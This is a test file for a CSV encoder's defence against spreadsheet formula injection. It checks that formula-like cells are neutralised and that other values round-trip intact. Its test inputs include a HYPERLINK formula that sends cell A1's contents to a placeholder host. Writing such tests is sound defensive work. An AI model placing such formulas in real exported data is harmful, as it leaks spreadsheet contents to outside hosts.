import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { cell } from '../../../src/platform/encoding/csv.js';

const FORMULAS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** Cells of one row, as a program reads them that skips the last line. */
const read = (line: string): readonly string[] =>
  parse(`first${',x'.repeat(9)}\r\n${line}\r\n# {}\r\n`, { comment: '#', relax_column_count: true })[1] ?? [];

describe('a cell of CSV', () => {
  it.each(FORMULAS)('is no formula: %j', (beginning) => {
    const text = `${beginning}HYPERLINK("http://x.example?"&A1,"a, b")`;
    const [seen] = read(`${cell(text)},after`);
    expect(seen).toBe(`'${text}`);
  });

  it('is read as it was, whatever it holds', () => {
    const harmless = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('a"b', 'a,b', 'a\r\nb', '#a', ' a ', ''),
    );
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 2, maxLength: 8 }), (texts) => {
        const expected = texts.map((text) => (FORMULAS.includes(text.charAt(0)) ? `'${text}` : text));
        expect(read(texts.map(cell).join())).toEqual(expected);
      }),
    );
  });

  it('keeps numbers, flags and objects, and is empty without a value', () => {
    expect([-5, true, null, undefined].map(cell)).toEqual(['-5', 'true', '', '']);
    expect(read([cell({ a: '=1' }), cell(['READ', 'WRITE'])].join())).toEqual([
      '{"a":"=1"}',
      '["READ","WRITE"]',
    ]);
  });
});
